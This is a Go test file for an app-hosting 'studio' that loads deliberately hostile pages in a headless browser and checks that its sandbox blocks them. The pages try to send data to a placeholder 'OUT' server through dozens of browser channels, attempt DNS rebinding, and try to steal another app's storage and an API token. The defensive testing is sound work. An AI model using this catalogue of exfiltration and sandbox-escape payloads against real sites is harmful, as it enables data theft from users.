package studio

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"hone/app"
)

// An outside is all that a page must not reach: a web server, a bare port, a STUN server.
type outside struct {
	*httptest.Server
	tcp net.Listener
	udp net.PacketConn

	mu    sync.Mutex
	heard []string
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{}
	o.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		o.hear(r.URL.Path)
	}))
	t.Cleanup(o.Server.Close)
	var err error
	if o.tcp, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if o.udp, err = net.ListenPacket("udp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { o.tcp.Close(); o.udp.Close() })
	go func() {
		for {
			c, err := o.tcp.Accept()
			if err != nil {
				return
			}
			o.hear("a connection")
			c.Close()
		}
	}()
	go func() {
		for b := make([]byte, 2000); ; {
			if _, _, err := o.udp.ReadFrom(b); err != nil {
				return
			}
			o.hear("a packet")
		}
	}()
	return o
}

func (o *outside) hear(what string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.heard = append(o.heard, what)
}

// told returns what was heard, and forgets it.
func (o *outside) told() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	heard := o.heard
	o.heard = nil
	slices.Sort(heard)
	return slices.Compact(heard)
}

// in puts the addresses into an attack.
func (o *outside) in(h *house, other, attack string) string {
	return strings.NewReplacer("OUT", o.URL, "BAREPORT", o.tcp.Addr().String(), "STUNPORT", o.udp.LocalAddr().String(),
		"API", h.Origin()+"/api", "TOKEN", h.o.Token, "OTHER", h.appOrigin(other), "STUDIO", h.Origin()).Replace(attack)
}

// Ways out that a page tries one after the other; the name of each is where it leads.
const ways = `
fetch("OUT/fetch").catch(() => {});
fetch("OUT/keepalive", {method: "POST", mode: "no-cors", keepalive: true, body: "x"}).catch(() => {});
{ const x = new XMLHttpRequest(); x.open("GET", "OUT/xhr"); x.onerror = () => {}; x.send(); }
navigator.sendBeacon("OUT/beacon", "x");
new Image().src = "OUT/image";
try { new WebSocket("OUT/ws".replace("http", "ws")) } catch (e) {}
try { new EventSource("OUT/events") } catch (e) {}
const put = (tag, set, where = document.head || document.documentElement) => { const e = document.createElement(tag); Object.assign(e, set); where.append(e); return e };
put("script", {src: "OUT/script"});
put("link", {rel: "stylesheet", href: "OUT/css"});
put("link", {rel: "icon", href: "OUT/icon"});
put("link", {rel: "manifest", href: "OUT/manifest"});
put("link", {rel: "prefetch", href: "OUT/prefetch"});
put("link", {rel: "preload", as: "image", href: "OUT/preload"});
put("link", {rel: "modulepreload", href: "OUT/modulepreload"});
put("link", {rel: "preconnect", href: "http://BAREPORT"});
put("style", {textContent: "@import 'OUT/import'; body { background: url(OUT/background) } @font-face { font-family: x; src: url(OUT/font) } * { font-family: x }"});
put("script", {type: "speculationrules", textContent: '{"prefetch": [{"source": "list", "urls": ["OUT/speculated"]}]}'});
const body = () => document.body || document.documentElement;
put("iframe", {src: "OUT/frame"}, body());
put("object", {data: "OUT/object"}, body());
put("embed", {src: "OUT/embed"}, body());
put("video", {src: "OUT/video"}, body());
put("iframe", {src: "javascript:fetch('OUT/javascript')"}, body());
put("iframe", {srcdoc: "<script>fetch('OUT/srcdoc')</scr" + "ipt><img src='OUT/srcdocimage'>"}, body());
try { open("OUT/open") } catch (e) {}
{ const a = put("a", {href: "OUT/blank", target: "_blank", textContent: "x"}, body()); a.click(); a.ping = "OUT/ping"; a.click(); }
try { new Worker(URL.createObjectURL(new Blob(["fetch('OUT/worker')"]))) } catch (e) {}
const call = RTC => { try { const c = new RTC({iceServers: [{urls: "stun:STUNPORT"}]}); c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o)) } catch (e) {} };
try { call(RTCPeerConnection) } catch (e) {}
try { call(put("iframe", {}, body()).contentWindow.RTCPeerConnection) } catch (e) {}
put("iframe", {srcdoc: "<script>const call = " + call + ";call(RTCPeerConnection)</scr" + "ipt>"}, body());
setTimeout(() => { { const a = put("a", {href: "OUT/download", download: "x", textContent: "x"}, body()); HTMLAnchorElement.prototype.click.call(a); a.dispatchEvent(new MouseEvent("click", {cancelable: true})); } { const f = put("form", {action: "OUT/form", method: "GET"}, body()); f.submit(); const g = put("form", {action: "OUT/formtop", target: "_top"}, body()); g.submit(); const k = put("form", {action: "OUT/formblank", target: "_blank"}, body()); k.submit(); } }, 6000);
{ const host = put("div", {}, body()), root = host.attachShadow({mode: "closed"}), f = document.createElement("iframe"); f.srcdoc = "<script>(" + call + ")(RTCPeerConnection)</scr" + "ipt>"; root.append(f); }
try { const d = document.createElement("div"); d.setHTMLUnsafe("<p><template shadowrootmode=closed><iframe srcdoc='<script>(" + call + ")(RTCPeerConnection)</scr" + "ipt>'></iframe></template></p>"); body().append(d) } catch (e) {}
`

// Ways that lead the window away, so that each needs a page of its own.
var leaving = map[string]string{
	"location":        `location = "OUT/location"`,
	"location.assign": `location.assign("OUT/assign")`,
	"replace":         `location.replace("OUT/replace")`,
	"top":             `top.location = "OUT/top"`,
	"parent":          `parent.location = "OUT/parent"`,
	"parent hash":     `parent.location = "OUT/parenthash#x"`,
	"refresh":         `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=OUT/refresh">'`,
	"link":            `{ const a = document.createElement("a"); a.href = "OUT/link"; document.body.append(a); a.click() }`,
	"link to top":     `{ const a = document.createElement("a"); a.href = "OUT/linktop"; a.target = "_top"; document.body.append(a); a.click() }`,
	"navigation":      `navigation.navigate("OUT/navigate")`,
	"another app":     `location = "OTHER/page"`,
	"the studio":      `location = "STUDIO/"`,
	"data":            `location = "data:text/html,<script>fetch('OUT/data');location='OUT/data2'</scr" + "ipt>"`,
	"blob":            `location = URL.createObjectURL(new Blob(["<script>fetch('OUT/blob');location='OUT/blob2'</scr" + "ipt>"], {type: "text/html"}))`,
	"base":            `document.head.innerHTML = '<base href="OUT/">'; const i = document.createElement("img"); i.src = "based"; document.body.append(i)`,
}

func hostile(script string) string {
	// The first script stands before any head, where a policy inside the page would come too late.
	return "<script>fetch('OUT/early').catch(() => {}); new Image().src = 'OUT/earlyimage'</script><!doctype html><html lang=en><head><title>Hostile</title></head><body><p>hi</p><div><template ShadowRootMode=closed>" +
		"<iframe srcdoc=\"<script>const c=new RTCPeerConnection({iceServers:[{urls:'stun:STUNPORT'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))</script>\"></iframe></template></div><script>" + script + "\n</script></body></html>"
}

func TestAHostileAppReachesNothingOutside(t *testing.T) {
	t.Parallel() // it waits most of the time
	h, o, tab := newHouse(t, nil), newOutside(t), newTab(t)
	other := h.page(t, "Other", "<p>other")
	// The same page without the studio around it does get out: the test would hear it.
	free := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte(o.in(h, other.ID, hostile(ways))))
	}))
	defer free.Close()
	visit := func(url string, wait time.Duration) []string {
		t.Helper()
		if err := chromedp.Do(tab, chromedp.Navigate(url)); err != nil {
			t.Fatalf("%s: %v", url, err)
		}
		time.Sleep(wait)
		return o.told()
	}
	began, heard := time.Now(), []string(nil)
	missing := func() (ways []string) {
		for _, way := range []string{"/early", "/fetch", "/beacon", "/image", "/css", "/frame", "/srcdoc", "/worker", "/speculated", "/formtop", "a packet"} {
			if !slices.Contains(heard, way) {
				ways = append(ways, way)
			}
		}
		return ways
	}
	for heard = visit(free.URL, 7*time.Second); len(missing()) > 0 && time.Since(began) < 40*time.Second; time.Sleep(100 * time.Millisecond) {
		heard = append(heard, o.told()...)
	}
	if len(missing()) > 0 {
		t.Fatalf("a page without the studio doesn't get out by %v: %v", missing(), heard)
	}
	took := time.Since(began) // on a busy machine what gets out does so late
	a := h.page(t, "Hostile", o.in(h, other.ID, hostile(ways)))
	if heard := visit(h.appOrigin(a.ID)+"/", took+took/2); len(heard) > 0 {
		t.Errorf("in its frame: heard %v", heard)
	}
	if heard := visit(h.appOrigin(a.ID)+"/page", time.Second); len(heard) > 0 {
		t.Errorf("outside its frame: heard %v", heard)
	}
	windows := map[string]context.Context{}
	for name, attack := range leaving {
		a := h.page(t, name, hostile(o.in(h, other.ID, attack)))
		w := newTab(t)
		if err := chromedp.Do(w, chromedp.Navigate(h.appOrigin(a.ID)+"/")); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		windows[h.appOrigin(a.ID)+"/"] = w
	}
	time.Sleep(2 * time.Second)
	if heard := o.told(); len(heard) > 0 {
		t.Errorf("leaving: heard %v", heard) // their names say which
	}
	for url, w := range windows {
		if at := script(t, w, `location.href`); at != url {
			t.Errorf("the window of %s is at %s", url, at)
		}
	}
}

// A page whose name is led to this machine (DNS rebinding) is of the same origin as what
// answers there, so that no browser keeps it from anything; it finds nothing, with the key too.
func TestAReboundNameReachesNothing(t *testing.T) {
	h, tab := newHouse(t, nil), newTab(t)
	a := h.page(t, "A", "<p>a secret")
	for host, path := range map[string]string{rebound: "/", a.ID + "." + rebound: "/page"} {
		at := fmt.Sprintf("http://%s:%d", host, h.port)
		if err := chromedp.Do(tab, chromedp.Navigate(at+path)); err != nil {
			t.Fatal(err)
		}
		if got := script(t, tab, `location.origin + document.body.innerText`); strings.TrimSpace(got) != at+"hone: this name is not served here" {
			t.Errorf("%s%s: %s", host, path, got)
		}
		for _, path := range []string{"/api/apps", "/api/state", "/", "/kept", "/page"} {
			if got := script(t, tab, fmt.Sprintf(`fetch(%q, {headers: {Authorization: "Bearer %s"}}).then(r => String(r.status))`, path, h.o.Token)); got != "421" {
				t.Errorf("%s%s answers %s", host, path, got)
			}
		}
	}
}

// What a hostile app finds inside: every attempt is written into its own storage, where the
// test reads it.
func TestAHostileAppReachesNothingOfOthers(t *testing.T) {
	h, o, tab := newHouse(t, nil), newOutside(t), newTab(t)
	other := h.page(t, "Other", "<p>other")
	secret := "the other's secret"
	if err := h.apps.Keep(t.Context(), other.ID, []app.Entry{{Key: "k", Value: &secret}}); err != nil {
		t.Fatal(err)
	}
	attempts := map[string]string{
		"api":           `fetch("API/apps", {headers: {Authorization: "Bearer TOKEN"}}).then(r => r.text())`,
		"api, blind":    `fetch("API/jobs", {method: "POST", mode: "no-cors", body: '{"kind":"make","text":"x"}'}).then(() => "sent")`,
		"other kept":    `fetch("OTHER/kept", {method: "PUT", body: '[{"key":"k","value":"taken"}]'}).then(r => "sent")`,
		"other page":    `fetch("OTHER/page").then(r => r.text())`,
		"own channel":   `fetch("/kept", {method: "PUT", body: "[]"}).then(r => r.status)`,
		"parent's DOM":  `parent.document.title`,
		"top's DOM":     `top.document.title`,
		"parent's keep": `parent.localStorage.length`,
		"top's key":     `top.localStorage.getItem("key")`,
		"frame element": `frameElement === null ? Promise.reject({name: "null"}) : frameElement.src`,
		"cookies":       `document.cookie = "a=b"`,
		"database":      `new Promise((y, n) => { const r = indexedDB.open("x"); r.onsuccess = () => y("open"); r.onerror = () => n({name: "refused"}) })`,
		"caches":        `caches.keys().then(() => "open")`,
		"worker":        `navigator.serviceWorker.register("/sw.js").then(() => "registered")`,
		"real storage":  `Object.getOwnPropertyDescriptor(Window.prototype, "localStorage")?.get.call(window).length ?? Promise.reject({name: "none"})`,
		"empty frame":   `(() => { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.localStorage.length })()`,
		"channel":       `new Promise((y, n) => { const c = new BroadcastChannel("kept"); c.onmessage = () => y("heard"); setTimeout(() => n({name: "silent"}), 300) })`,
	}
	var functions []string
	for name, code := range attempts {
		functions = append(functions, fmt.Sprintf("%q: async () => %s", name, o.in(h, other.ID, code)))
	}
	a := h.page(t, "Hostile", hostile(`const tried = {}, attempts = {`+strings.Join(functions, ",\n")+`};
	(async () => { for (const name in attempts) try { tried[name] = "GOT " + await attempts[name]() } catch (e) { tried[name] = e.name }
	localStorage.setItem("tried", JSON.stringify(tried)) })()`))
	// As a person has it: top is the interface, with the key in its storage.
	screens[1].open(t, tab, h.Address())
	until(t, tab, "the interface", `document.querySelector("#wish") && localStorage.getItem("key")`)
	script(t, tab, `(location.hash = "#/app/`+a.ID+`") && ""`)
	tried := map[string]string{}
	eventually(t, "the attempts", func() bool {
		kept, _ := h.apps.Entries(t.Context(), a.ID)
		return json.Unmarshal([]byte(kept["tried"]), &tried) == nil
	})
	for name := range attempts {
		if got := tried[name]; got == "" || strings.HasPrefix(got, "GOT") {
			t.Errorf("%s: %q", name, got)
		}
	}
	if kept, _ := h.apps.Entries(t.Context(), other.ID); len(kept) != 1 || kept["k"] != secret {
		t.Errorf("the other app keeps %v", kept)
	}
	t.Log(tried)
}
